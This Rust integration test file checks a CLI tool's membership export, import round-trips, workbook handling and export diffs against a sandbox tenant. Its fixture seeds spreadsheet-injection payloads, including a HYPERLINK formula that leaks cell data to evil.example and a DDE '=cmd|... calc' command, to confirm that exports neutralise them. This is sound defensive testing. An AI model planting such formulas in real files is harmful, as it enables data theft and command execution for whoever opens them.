//! `roster export` and `roster diff` end to end against a sandbox over loopback: what an
//! export holds and costs, that importing it unedited changes nothing, workbooks in and
//! out, cells a spreadsheet would run as formulas, and the diff of two exports.
//!
//! Exports are read back from the files roster wrote; the sandbox says which calls it got
//! and what it holds.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use roster::sandbox::{Seed, SeedGroup};

use crate::common::sample::{FINANCE, LCHEN, MARKETING, MGARCIA};
use crate::common::{Row, TestSandbox, Workspace, generated, membership_pairs, read_csv, sample_seed};

/// The columns of a memberships export, in order.
const MEMBERSHIP_COLUMNS: [&str; 10] = [
    "action",
    "user",
    "group",
    "user_email",
    "user_name",
    "user_role",
    "last_login",
    "group_alias",
    "decision",
    "justification",
];

/// The route that lists a group's members, page by page.
const MEMBERS_ROUTE: &str = "GET /api/service/groups/{guid}/members";
/// The route that lists the groups.
const GROUPS_ROUTE: &str = "GET /api/service/v2/groups";
/// The per-user group lookup an export must never make.
const GROUPS_OF_USER_ROUTE: &str = "GET /api/service/users/{guid}/groups";
/// Atlan's page size as roster asks for it.
const PAGE: usize = 100;

/// The characters that make a spreadsheet run a cell (OWASP, CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `(user, group)` of every row of a memberships export.
fn exported_pairs(path: &Path) -> BTreeSet<(String, String)> {
    let (header, records) = read_csv(path);
    assert_eq!(header, MEMBERSHIP_COLUMNS, "{}", path.display());
    records
        .iter()
        .map(|r| {
            assert_eq!(r[0], "keep", "{r:?}");
            (r[1].clone(), r[2].clone())
        })
        .collect()
}

/// Fails unless every result row has one of `statuses`.
#[track_caller]
fn assert_all(rows: &[Row], statuses: &[&str]) {
    assert!(!rows.is_empty(), "no rows");
    for row in rows {
        assert!(statuses.contains(&row["status"].as_str()), "{row:?}");
    }
}

#[tokio::test]
async fn a_memberships_export_lists_every_membership_with_context_for_reviewers() {
    let work = Workspace::new();
    let sandbox = TestSandbox::start().await;
    let output = work.export(&sandbox, "memberships").run().await;
    output.assert_exit(0);
    assert!(output.stdout.starts_with("action,"), "no byte order mark without --excel");
    insta::assert_snapshot!(output.stdout, @r"
    action,user,group,user_email,user_name,user_role,last_login,group_alias,decision,justification
    keep,jdoe,data_stewards,jdoe@example.com,Jo Doe,$member,2025-11-19T12:00:00Z,Data Stewards,,
    keep,jsmith,data_stewards,jsmith@example.com,Jane Smith,$admin,2025-11-20T12:00:00Z,Data Stewards,,
    keep,akumar,finance_analysts,akumar@example.com,Anil Kumar,$member,,Finance Analysts,,
    keep,jdoe,finance_analysts,jdoe@example.com,Jo Doe,$member,2025-11-19T12:00:00Z,Finance Analysts,,
    keep,mgarcia,marketing,mgarcia@example.com,Maria Garcia,$member,2025-11-01T12:26:40Z,Marketing,,
    ");
    assert!(
        output.stderr.starts_with("exported 5 rows to standard output (4 API calls in "),
        "{}",
        output.stderr
    );
    // The groups once, then the members of each non-empty group (everyone is empty).
    let stats = sandbox.stats();
    assert_eq!(
        stats.by_route,
        BTreeMap::from([(GROUPS_ROUTE.to_string(), 1), (MEMBERS_ROUTE.to_string(), 3)])
    );
    assert_eq!(stats.writes(), 0);
}

#[tokio::test]
async fn an_export_costs_at_most_a_call_per_group_and_never_asks_for_a_users_groups() {
    let work = Workspace::new();
    // More users than fit a page, so that asking per user would cost far more than the bound;
    // few groups, because an export paces its calls for the tenant's default budget.
    let mut tenant = generated("users=450,groups=12,memberships=600,seed=5");
    // Two empty groups, which cost nothing.
    for n in 1..=2 {
        let mut empty: SeedGroup = tenant.groups[0].clone();
        empty.id = format!("00000000-0000-4000-8000-0000000000e{n}");
        empty.name = format!("empty_{n}");
        empty.members.clear();
        tenant.groups.push(empty);
    }
    let largest = tenant.groups.iter().map(|g| g.members.len()).max().unwrap();
    assert!(largest <= PAGE, "each group's members fit one page ({largest})");
    let (users, groups) = (tenant.users.len(), tenant.groups.len());
    let non_empty = tenant.groups.iter().filter(|g| !g.members.is_empty()).count();
    let sandbox = TestSandbox::with_seed(tenant).await;

    let path = work.join("memberships.csv");
    let output = work.export(&sandbox, "memberships").arg("-o").arg(&path).arg("--quiet").run().await;
    output.assert_exit(0);
    assert_eq!(output.stderr, "", "--quiet prints nothing");

    let stats = sandbox.stats();
    let bound = groups + users.div_ceil(PAGE) + groups.div_ceil(PAGE);
    let calls = usize::try_from(stats.requests).unwrap();
    assert!(
        calls <= bound,
        "{calls} calls for {groups} groups and {users} users (at most {bound}): {stats:?}"
    );
    assert_eq!(stats.calls(GROUPS_OF_USER_ROUTE), 0, "{stats:?}");
    assert_eq!(stats.calls(GROUPS_ROUTE), 1, "{stats:?}");
    assert_eq!(stats.calls(MEMBERS_ROUTE), non_empty as u64, "one page per non-empty group: {stats:?}");
    assert_eq!(stats.writes(), 0);

    // One row per membership the tenant holds, and no other.
    let tenant = sandbox.state();
    let memberships: usize = tenant.groups.iter().map(|g| g.members.len()).sum();
    let exported = exported_pairs(&path);
    assert_eq!(read_csv(&path).1.len(), memberships);
    assert_eq!(exported, membership_pairs(&tenant));
}

#[tokio::test]
async fn importing_an_unedited_export_changes_nothing() {
    let work = Workspace::new();
    let sandbox = TestSandbox::start().await;
    let before = sandbox.state();
    for what in ["memberships", "users", "groups"] {
        let export = work.join(&format!("{what}.csv"));
        work.export(&sandbox, what).arg("-o").arg(&export).run().await.assert_exit(0);
        let imported = work.import(&sandbox, &export).run().await;
        imported.assert_exit(0);
        let expected = if what == "memberships" { "skipped" } else { "unchanged" };
        assert_all(&imported.rows, &[expected]);
        assert_eq!(imported.rows.len(), read_csv(&export).1.len(), "{what}: every row reported");
    }
    assert_eq!(sandbox.stats().writes(), 0, "{:?}", sandbox.stats());
    assert_eq!(sandbox.state(), before);
}

#[tokio::test]
async fn a_users_exports_context_columns_are_carried_into_the_results() {
    let work = Workspace::new();
    let sandbox = TestSandbox::start().await;
    let export = work.join("users.csv");
    work.export(&sandbox, "users").arg("-o").arg(&export).run().await.assert_exit(0);
    let (header, _) = read_csv(&export);
    let imported = work.import(&sandbox, &export).run().await;
    imported.assert_exit(0);
    // Every column of the export is in the results, before roster's own.
    assert_eq!(imported.header[..header.len()], header[..]);
    let pnew = imported.rows.iter().find(|r| r["user"] == "pnew").expect("a row for pnew");
    assert_eq!(pnew["status"], "unchanged");
    assert_eq!(imported.header.iter().filter(|h| *h == "status").count(), 1, "{:?}", imported.header);
    assert_eq!(pnew["user_status"], "Invited");
}

/// The sample tenant with cells a spreadsheet would run: names, aliases and descriptions
/// starting with `=`, `+`, `-`, `@` and a tab, and one that starts with a `'` already.
fn hostile_tenant() -> Seed {
    let mut seed = sample_seed();
    for user in &mut seed.users {
        if user.id == LCHEN {
            user.first_name = Some("=HYPERLINK(\"http://evil.example/?\"&A1)".into());
            user.last_name = Some("-1+2".into());
        } else if user.id == MGARCIA {
            user.first_name = Some("@SUM(A1:A9)".into());
            user.last_name = Some("'=quoted".into());
        }
    }
    for group in &mut seed.groups {
        if group.id == MARKETING {
            group.alias = Some("+Marketing".into());
            group.description = Some("=cmd|' /C calc'!A0".into());
            group.members.push(LCHEN.into());
        } else if group.id == FINANCE {
            group.alias = Some("'=quoted".into());
            group.description = Some("\tindented".into());
        }
    }
    seed
}

/// Cells of a CSV file that a spreadsheet would run.
fn formula_cells(path: &Path) -> Vec<String> {
    let (_, records) = read_csv(path);
    records.into_iter().flatten().filter(|cell| cell.starts_with(FORMULA_STARTS)).collect()
}

#[tokio::test]
async fn formula_cells_are_neutralised_and_read_back_unchanged() {
    let work = Workspace::new();
    let sandbox = TestSandbox::with_seed(hostile_tenant()).await;
    let before = sandbox.state();

    let groups = work.join("groups.csv");
    work.export(&sandbox, "groups").arg("-o").arg(&groups).run().await.assert_exit(0);
    let text = std::fs::read_to_string(&groups).unwrap().replace('\t', "<TAB>");
    insta::assert_snapshot!(text, @r#"
    action,group,alias,description,is_default,member_count,group_guid
    create_group,data_stewards,Data Stewards,Owners of data quality and definitions,false,2,e79cb8eb-2bb6-4821-914c-f8dfd21fedc7
    create_group,everyone,Everyone,Joined automatically by every new user,true,0,a852d26f-279a-4f57-b3e2-72831cd814a4
    create_group,finance_analysts,''=quoted,'<TAB>indented,false,2,a99f50bc-46bf-4d08-a987-3411ef5cfc33
    create_group,marketing,'+Marketing,'=cmd|' /C calc'!A0,false,2,9e24070f-7ddb-4420-b015-bb6be3551407
    "#);

    let memberships = work.join("memberships.csv");
    work.export(&sandbox, "memberships").arg("-o").arg(&memberships).run().await.assert_exit(0);
    let (_, rows) = read_csv(&memberships);
    let lchen = rows.iter().find(|r| r[1] == "lchen").expect("lchen is in marketing");
    assert_eq!(lchen[4], "'=HYPERLINK(\"http://evil.example/?\"&A1) -1+2", "user_name");
    assert_eq!(lchen[7], "'+Marketing", "group_alias");
    let mgarcia = rows.iter().find(|r| r[1] == "mgarcia").expect("mgarcia is in marketing");
    assert_eq!(mgarcia[4], "'@SUM(A1:A9) '=quoted", "user_name");

    let users = work.join("users.csv");
    work.export(&sandbox, "users").arg("-o").arg(&users).run().await.assert_exit(0);
    let (header, rows) = read_csv(&users);
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let lchen = rows.iter().find(|r| r[1] == "lchen").unwrap();
    assert_eq!(
        (lchen[column("first_name")].as_str(), lchen[column("last_name")].as_str()),
        ("'=HYPERLINK(\"http://evil.example/?\"&A1)", "'-1+2")
    );

    // Nothing a spreadsheet would run, anywhere; and each export reads back as the tenant
    // holds it: importing it changes nothing.
    for (export, status) in [(&groups, "unchanged"), (&memberships, "skipped"), (&users, "unchanged")] {
        assert_eq!(formula_cells(export), Vec::<String>::new(), "{}", export.display());
        let imported = work.import(&sandbox, export).run().await;
        imported.assert_exit(0);
        assert_all(&imported.rows, &[status]);
    }
    assert_eq!(sandbox.stats().writes(), 0, "{:?}", sandbox.stats());
    assert_eq!(sandbox.state(), before);
}

#[tokio::test]
async fn excel_starts_a_csv_export_with_a_bom_that_import_reads() {
    let work = Workspace::new();
    let sandbox = TestSandbox::start().await;
    let path = work.join("memberships.csv");
    work.export(&sandbox, "memberships").args(["--excel", "-o"]).arg(&path).run().await.assert_exit(0);
    let bytes = std::fs::read(&path).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBFaction,user,group,"), "{:?}", &bytes[..20]);

    let imported = work.import(&sandbox, &path).run().await;
    imported.assert_exit(0);
    assert_all(&imported.rows, &["skipped"]);
    assert_eq!(imported.header[0], "action", "the BOM is not part of the first column's name");
    assert_eq!(sandbox.stats().writes(), 0);
}

/// The first sheet of a workbook, every cell as text.
fn read_workbook(path: &Path) -> Vec<Vec<String>> {
    use calamine::Reader;
    let mut workbook = calamine::open_workbook_auto(path).expect("a workbook");
    let sheet = workbook.worksheet_range_at(0).expect("a first sheet").expect("a readable sheet");
    sheet.rows().map(|row| row.iter().map(ToString::to_string).collect()).collect()
}

/// Writes rows into the first sheet of a new workbook, as text (the way a spreadsheet saves
/// a reviewer's edits).
fn write_workbook(path: &Path, rows: &[Vec<String>]) {
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            let (r, c) = (u32::try_from(r).unwrap(), u16::try_from(c).unwrap());
            sheet.write_string(r, c, cell).expect("a cell is written");
        }
    }
    workbook.save(path).expect("the workbook is saved");
}

#[tokio::test]
async fn a_workbook_export_validates_imports_unchanged_and_carries_a_review() {
    let work = Workspace::new();
    let sandbox = TestSandbox::start().await;
    let before = sandbox.state();
    let exported = work.join("review.xlsx");
    work.export(&sandbox, "memberships").arg("-o").arg(&exported).run().await.assert_exit(0);
    assert!(std::fs::read(&exported).unwrap().starts_with(b"PK\x03\x04"), "a zip, as xlsx files are");
    let sheet = read_workbook(&exported);
    assert_eq!(sheet[0], MEMBERSHIP_COLUMNS);
    assert_eq!(sheet.len(), 1 + 5, "a header and the five memberships");

    let validated = work.roster(["validate".as_ref(), exported.as_os_str()]).run().await;
    validated.assert_exit(0);
    assert!(validated.stderr.contains("review.xlsx: 5 rows: 5 valid"), "{}", validated.stderr);

    let unedited = work.import(&sandbox, &exported).run().await;
    unedited.assert_exit(0);
    assert_all(&unedited.rows, &["skipped"]);
    assert_eq!(sandbox.stats().writes(), 0);
    assert_eq!(sandbox.state(), before);

    // A reviewer revokes jdoe's finance membership in the workbook.
    let mut edited = sheet.clone();
    let row = edited.iter().position(|r| r[1] == "jdoe" && r[2] == "finance_analysts").unwrap();
    edited[row][8] = "revoke".into();
    edited[row][9] = "Moved to marketing (HR-1234)".into();
    let reviewed = work.join("reviewed.xlsx");
    write_workbook(&reviewed, &edited);
    let applied = work.import(&sandbox, &reviewed).arg("--yes").run().await;
    applied.assert_exit(0);
    let revoked = applied.row(u64::try_from(row).unwrap() + 1);
    assert_eq!(
        (revoked["status"].as_str(), revoked["decision"].as_str(), revoked["justification"].as_str()),
        ("ok", "revoke", "Moved to marketing (HR-1234)")
    );
    assert_eq!(applied.rows.iter().filter(|r| r["status"] == "skipped").count(), 4);
    assert_eq!(sandbox.stats().writes(), 1, "one removal call: {:?}", sandbox.stats());
    assert_eq!(sandbox.stats().calls("POST /api/service/groups/{guid}/members/remove"), 1);
    let mut expected = membership_pairs(&before);
    expected.remove(&("jdoe".into(), "finance_analysts".into()));
    assert_eq!(membership_pairs(&sandbox.state()), expected);
}

#[tokio::test]
async fn a_workbook_export_of_formula_cells_reads_back_unchanged_and_its_results_are_safe() {
    let work = Workspace::new();
    let sandbox = TestSandbox::with_seed(hostile_tenant()).await;
    let before = sandbox.state();
    for what in ["groups", "memberships", "users"] {
        let exported = work.join(&format!("{what}.xlsx"));
        work.export(&sandbox, what).arg("-o").arg(&exported).run().await.assert_exit(0);
        let imported = work.import(&sandbox, &exported).run().await;
        imported.assert_exit(0);
        assert_all(&imported.rows, &["skipped", "unchanged"]);
        // The results are CSV: cells that came from the workbook as values are neutralised
        // there like in a CSV export.
        let results = work.join(&format!("{what}.results.csv"));
        assert_eq!(formula_cells(&results), Vec::<String>::new(), "{what}");
    }
    let alias = read_workbook(&work.join("groups.xlsx"))
        .into_iter()
        .find(|r| r[1] == "marketing")
        .map(|r| r[2].clone());
    assert_eq!(alias.as_deref(), Some("+Marketing"), "workbook cells are text, written as they are");
    assert_eq!(sandbox.stats().writes(), 0);
    assert_eq!(sandbox.state(), before);
}

#[tokio::test]
async fn a_workbook_cannot_go_to_standard_output() {
    let work = Workspace::new();
    let mut sandbox = TestSandbox::start().await;
    let output = work.export(&sandbox, "memberships").args(["--format", "xlsx"]).run().await;
    output.assert_exit(2);
    assert_eq!(output.stdout, "");
    assert_eq!(
        output.stderr,
        "error: an Excel workbook can't be written to standard output; give a file with -o FILE\n"
    );
    // A usage error, found before the tenant is read.
    sandbox.assert_untouched();

    // --format xlsx wins over the file's name.
    let path = work.join("memberships.out");
    work.export(&sandbox, "memberships")
        .args(["--format", "xlsx", "-o"])
        .arg(&path)
        .run()
        .await
        .assert_exit(0);
    assert_eq!(read_workbook(&path)[0], MEMBERSHIP_COLUMNS);
}

#[tokio::test]
async fn diff_shows_memberships_added_and_removed_and_roles_changed() {
    let work = Workspace::new();
    let sandbox = TestSandbox::start().await;
    let old = work.join("2026Q4.csv");
    work.export(&sandbox, "memberships").arg("-o").arg(&old).run().await.assert_exit(0);
    let old_users = work.join("users-2026Q4.csv");
    work.export(&sandbox, "users").arg("-o").arg(&old_users).run().await.assert_exit(0);

    let changes = work.write(
        "changes.csv",
        "action,user,group,role\nadd,lchen,marketing,\nremove,akumar,finance_analysts,\nset_role,jdoe,,admin\n",
    );
    work.import(&sandbox, &changes).arg("--yes").run().await.assert_exit(0);
    let new = work.join("2027Q1.csv");
    work.export(&sandbox, "memberships").arg("-o").arg(&new).run().await.assert_exit(0);
    let new_users = work.join("users-2027Q1.csv");
    work.export(&sandbox, "users").arg("-o").arg(&new_users).run().await.assert_exit(0);

    let diff = work.roster(["diff".as_ref(), old.as_os_str(), new.as_os_str()]).run().await;
    diff.assert_exit(0);
    insta::assert_snapshot!(diff.stdout, @r"
    change,user,group,old_role,new_role
    membership_added,lchen,marketing,,
    membership_removed,akumar,finance_analysts,,
    role_changed,jdoe,,$member,$admin
    ");
    assert_eq!(diff.stderr, "");

    // To a file, the same table.
    let file = work.join("diff.csv");
    let to_file = work
        .roster(["diff".as_ref(), old.as_os_str(), new.as_os_str(), "-o".as_ref(), file.as_os_str()])
        .run()
        .await;
    to_file.assert_exit(0);
    assert_eq!(to_file.stdout, "");
    assert_eq!(std::fs::read_to_string(&file).unwrap(), diff.stdout);

    // Users exports: roles (lchen is a guest still: joining a group changed no role).
    let users = work.roster(["diff".as_ref(), old_users.as_os_str(), new_users.as_os_str()]).run().await;
    users.assert_exit(0);
    insta::assert_snapshot!(users.stdout, @r"
    change,user,group,old_role,new_role
    role_changed,jdoe,,$member,$admin
    ");

    // An export against itself: the header alone.
    let same = work.roster(["diff".as_ref(), new.as_os_str(), new.as_os_str()]).run().await;
    same.assert_exit(0);
    assert_eq!(same.stdout, "change,user,group,old_role,new_role\n");
}
